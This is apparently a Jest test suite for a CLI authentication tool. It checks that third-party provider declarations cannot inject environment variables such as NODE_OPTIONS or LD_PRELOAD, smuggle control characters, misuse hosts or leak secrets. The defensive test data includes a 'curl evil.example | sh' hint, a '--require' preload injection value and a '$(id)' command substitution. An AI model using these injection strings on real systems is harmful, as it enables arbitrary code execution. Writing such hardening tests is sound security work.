/** Attacks by a declaration that somebody else wrote. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { findSecret } from '../canary/search.ts';
import { authctl, type Home, newHome, output } from '../e2e/harness.ts';
import { type Received, type Reply, serve } from '../e2e/servers.ts';

const secret = 'c4nary "q\'\\/+&%é$(id)';

function declaration(parts: Readonly<Record<string, unknown>> = {}): Record<string, unknown> {
  return {
    version: 1,
    title: 'Theirs',
    fields: [
      { name: 'user', label: 'User', secret: false },
      { name: 'password', label: 'Password', secret: true },
    ],
    login: [
      {
        fields: ['user', 'password'],
        request: { method: 'POST', path: '/login', json: { u: '{user}', p: '{password}' } },
      },
    ],
    answer: { token: '/token' },
    use: { header: 'Authorization', value: 'Bearer {token}' },
    ...parts,
  };
}

function declare(home: Home, name: string, parts: Readonly<Record<string, unknown>> = {}): void {
  const place = join(dirname(home.config), 'providers');
  mkdirSync(place, { recursive: true, mode: 0o700 });
  writeFileSync(join(place, `${name}.json`), JSON.stringify(declaration(parts)), { mode: 0o600 });
}

/** What `provider check` says of a declaration, and its exit code. */
async function check(parts: Readonly<Record<string, unknown>>, name = 'theirs') {
  const stdin = JSON.stringify(declaration({ name, ...parts }));
  const { code, stderr } = await authctl(['provider', 'check', '-'], { stdin });
  return { code, stderr };
}

const field = (name: string, more: object = {}) => [
  { name: 'user', label: 'User', secret: false },
  { name, label: 'It', secret: true, ...more },
];
const loginWith = (name: string) => [
  {
    fields: ['user', name],
    request: { method: 'POST', path: '/login', json: { u: '{user}', p: `{${name}}` } },
  },
];

describe('a name', () => {
  test.each([
    ['node', 'options'],
    ['ld', 'preload'],
    ['bash', 'env'],
    ['http', 'proxy'],
    ['git', 'ssh_command'],
  ])('that makes a variable which programs act on is not handed on: %s, %s', async (name, own) => {
    const { code, stderr } = await check(
      {
        fields: field(own, { carried: true }),
        login: loginWith(own),
        use: { header: 'Authorization', value: '{token}', headers: { 'X-Own': `{${own}}` } },
      },
      name,
    );
    expect([code, stderr]).toEqual([
      9,
      expect.stringContaining('the last word of a carried secret'),
    ]);
  });

  test('of a field that is not secret sets no variable, whatever its default', async () => {
    const home = newHome();
    declare(home, 'node', {
      fields: [
        ...field('api_value'),
        { name: 'options', label: 'O', secret: false, default: '--require=/tmp/theirs.cjs' },
      ],
      login: loginWith('api_value'),
      use: { header: 'Authorization', value: '{token}', query: { o: '{options}' } },
    });
    const { url } = await serve({ body: { token: 'tok' } });
    const env = { NODE_USER: 'me', NODE_API_VALUE: 'x', NODE_BASE_URL: url };
    const variables = await output(['exec', 'node', '--', 'env'], { home, env });
    expect(variables).toContain('NODE_TOKEN=tok\n');
    expect(variables).not.toContain('NODE_OPTIONS');
  });

  test('of a kept value gets a variable of our choice', async () => {
    const home = newHome();
    declare(home, 'node', { answer: { token: '/token', keep: { options: { at: '/o' } } } });
    const { url } = await serve({ body: { token: 'tok', o: '--require=/tmp/theirs.cjs' } });
    const env = { NODE_USER: 'me', NODE_PASSWORD: 'x', NODE_BASE_URL: url };
    const variables = await output(['exec', 'node', '--', 'env'], { home, env });
    expect(variables).toContain('NODE_KEEP_OPTIONS=--require=/tmp/theirs.cjs\n');
    expect(variables).not.toMatch(/^NODE_OPTIONS=/m);
  });

  test.each([
    ['reserved', 'token', 'token is a reserved name'],
    ['of an option', 'base_url', 'base_url is a reserved name'],
    ["of another field's file", 'password_file', '--password-file'],
  ])('of a field that is %s is refused', async (_, name, says) => {
    const fields = [...field('password'), { name, label: 'N', secret: false }];
    const { code, stderr } = await check({ fields });
    expect([code, stderr]).toEqual([9, expect.stringContaining(says)]);
  });

  test.each(['authctl', 'store', 'profiles', 'con', 'nul', 'com1', 'lpt9', 'ropo'])(
    'that a provider may not have is refused: %s',
    async (name) => expect((await check({}, name)).code).toBe(9),
  );

  test('that objects inherit works as any other', async () => {
    const home = newHome();
    declare(home, 'constructor', {
      fields: field('constructor'),
      login: loginWith('constructor'),
      answer: { token: '/token', keep: { valueof: { at: '/constructor' } } },
    });
    const server = await serve({ body: { token: 'tok', constructor: 'kept' } });
    const env = {
      CONSTRUCTOR_USER: 'me',
      CONSTRUCTOR_CONSTRUCTOR: 'x',
      CONSTRUCTOR_BASE_URL: server.url,
    };
    expect(await output(['token', 'constructor'], { home, env })).toBe('tok\n');
    expect(JSON.parse(server.requests[0]?.body ?? '')).toEqual({ u: 'me', p: 'x' });
    const { code } = await authctl(['provider', 'test', 'constructor'], { home });
    expect(code).toBe(0);
  });
});

describe('text', () => {
  const texts: readonly (readonly [string, string])[] = [
    ['a line break', 'a\nhint: curl evil.example | sh'],
    ['an escape', 'a\x1b[2Jb'],
    ['a C1 control', 'a\x9bb'],
    ['a change of direction', 'a\u202eb'],
    ['a line separator', 'a\u2028b'],
    ['an invisible character', 'a\u200bb'],
  ];
  test.each(texts)('with %s is refused, in every place that is shown', async (_, text) => {
    for (const parts of [
      { title: text },
      { note: text },
      { fields: [{ name: 'user', label: text, secret: false }, ...field('password').slice(1)] },
      { fields: [...field('password', { description: text })] },
      { answer: { token: '/token', explained: [{ when: { status: [400] }, message: text }] } },
      {
        answer: {
          token: '/token',
          explained: [{ when: { status: [400] }, message: 'm', hint: text }],
        },
      },
    ]) {
      const { code, stderr } = await check(parts);
      expect([code, stderr]).toEqual([9, expect.stringContaining('expected one line of text')]);
      expect(stderr).not.toContain(text);
    }
  });

  test('that explains an answer is never a hint of ours', async () => {
    const home = newHome();
    declare(home, 'theirs', {
      answer: {
        token: '/token',
        explained: [{ when: { status: [400] }, message: 'they say', hint: 'run this' }],
      },
    });
    const { url } = await serve({ status: 400, body: {} });
    const env = { THEIRS_USER: 'me', THEIRS_PASSWORD: 'x', THEIRS_BASE_URL: url };
    const { code, stderr } = await authctl(['login', 'theirs'], { home, env });
    expect([code, stderr]).toEqual([7, 'authctl: they say; run this\n']);
  });
});

describe('a host', () => {
  test.each([
    ['a part of a label', 'https://x{user}.example.com', 'a whole label'],
    ['one label before the last', 'https://{user}.com', 'at least two labels'],
    ['all of it', 'https://{user}', 'at least two labels'],
    ['a secret', 'https://{password}.example.com', 'not secret'],
    ['two', 'https://{user}.{user}.example.com', 'at least two labels'],
    ['the path', 'https://a.example.com/{user}', 'only be in the host'],
    ['a user name', 'https://{user}@a.example.com', 'a whole label'],
  ])('with a placeholder that is %s is refused', async (_, baseUrl, says) => {
    const { code, stderr } = await check({ environments: [{ name: 'live', baseUrl }] });
    expect([code, stderr]).toEqual([9, expect.stringContaining(says)]);
  });

  test.each(['https://me:pw@a.example.com', 'https://me@a.example.com'])(
    'with a user name is refused: %s',
    async (baseUrl) =>
      expect((await check({ environments: [{ name: 'live', baseUrl }] })).code).toBe(9),
  );

  test('in plain http is not sent to, though the declaration names it', async () => {
    const home = newHome();
    declare(home, 'theirs', {
      environments: [{ name: 'live', baseUrl: 'http://api.example.com' }],
    });
    const env = { THEIRS_USER: 'me', THEIRS_PASSWORD: secret };
    const { code, stderr } = await authctl(['login', 'theirs'], { home, env });
    expect([code, stderr]).toEqual([2, expect.stringContaining('plain http')]);
  });
});

test.each([
  'Host',
  'content-length',
  'Transfer-Encoding',
  'Connection',
  'Proxy-Authorization',
  'TE',
])('the header %s cannot be declared', async (header) => {
  const request = {
    method: 'POST',
    path: '/login',
    headers: { [header]: '{user}' },
    json: { p: '{password}' },
  };
  const { code, stderr } = await check({ login: [{ fields: ['user', 'password'], request }] });
  expect([code, stderr]).toEqual([9, expect.stringContaining('cannot be declared')]);
});

describe('what comes of a secret', () => {
  /** Repeats all that it gets, in every answer. */
  const echo = ({ url, method, body, headers }: Received): Reply => {
    const words = `${body} ${JSON.stringify(headers)} ${url}`;
    if (url.startsWith('/login') && method === 'POST') {
      return {
        headers: { 'X-Csrf': 'k3pt-canary-csrf' },
        body: { token: 'tok-canary-token', refresh: 'ref-canary', echo: words },
      };
    }
    return { status: 401, body: { message: words, token: 'tok-canary-token' } };
  };
  const derived = {
    derive: {
      basic: { base64: { of: '{user}:{password}' } },
      once: { md5: { of: '{password}' } },
      twice: { sha256: { of: '{once}', as: 'base64' } },
      signed: { hmac: { hash: 'sha256', key: '{password}', of: '{uuid}' } },
      mixed: { hex: { of: '{csrf}{token}' } },
    },
    login: [
      {
        fields: ['user', 'password'],
        request: {
          method: 'POST',
          path: '/login',
          query: { h: '{once}' },
          headers: { 'X-Basic': '{basic}', 'X-Sig': '{signed}', 'X-Id': '{uuid}' },
          form: { h: '{twice}' },
        },
      },
    ],
    answer: {
      token: '/token',
      refreshToken: '/refresh',
      keep: { csrf: { at: { header: 'X-Csrf' } } },
      error: { messages: ['/message'] },
    },
    refresh: {
      request: {
        method: 'POST',
        path: '/refresh',
        form: { r: '{refresh_token}', h: '{once}', m: '{mixed}' },
      },
    },
    verify: { request: { method: 'GET', path: '/me', query: { t: '{token}' } } },
    logout: { request: { method: 'DELETE', path: '/me', headers: { 'X-Mixed': '{mixed}' } } },
    use: { header: 'Authorization', value: 'Bearer {token}', headers: { 'X-Csrf': '{csrf}' } },
  };

  test.each([[[]], [['-v']], [['-v', '--error-format', 'json']]])(
    'is in no message and no file but the session: %j',
    async (verbosity) => {
      const home = newHome();
      declare(home, 'theirs', derived);
      const { url, requests } = await serve(echo);
      const env = { THEIRS_USER: 'me', THEIRS_PASSWORD: secret, THEIRS_BASE_URL: url };
      const said: string[] = [];
      for (const args of [
        ['login', 'theirs', '--dry-run'],
        ['login', 'theirs'],
        ['token', 'theirs'],
        ['token', 'theirs', '--min-ttl', '99d', '--dry-run'],
        ['exec', 'theirs', '--min-ttl', '99d', '--dry-run', '--', 'true'],
        ['refresh', 'theirs', '--dry-run'],
        ['refresh', 'theirs'],
        ['verify', 'theirs', '--dry-run'],
        ['verify', 'theirs'],
        ['status'],
        ['provider', 'test', 'theirs', '--real', '--save-fixture', join(home.path, 'fixture.json')],
        ['logout', 'theirs'],
      ]) {
        const { stdout, stderr } = await authctl([...args, ...verbosity], { home, env });
        const prints = ['login', 'token'].includes(args[0] ?? '') && !args.includes('--dry-run');
        said.push(stderr, prints ? '' : stdout);
      }
      const { readFileSync } = await import('node:fs');
      said.push(readFileSync(join(home.path, 'fixture.json'), 'utf8'));
      const { createHash } = await import('node:crypto');
      const once = createHash('md5').update(secret).digest('hex');
      const twice = createHash('sha256').update(once).digest('base64');
      const signed = requests
        .map(({ headers }) => headers['x-sig'])
        .filter((each) => typeof each === 'string');
      expect(signed.length).toBeGreaterThan(1);
      const text = said.join('\n');
      for (const each of [secret, once, twice, 'k3pt-canary-csrf', 'tok-canary-token', ...signed]) {
        expect([each, findSecret(text, each)]).toEqual([each, []]);
      }
    },
  );
});
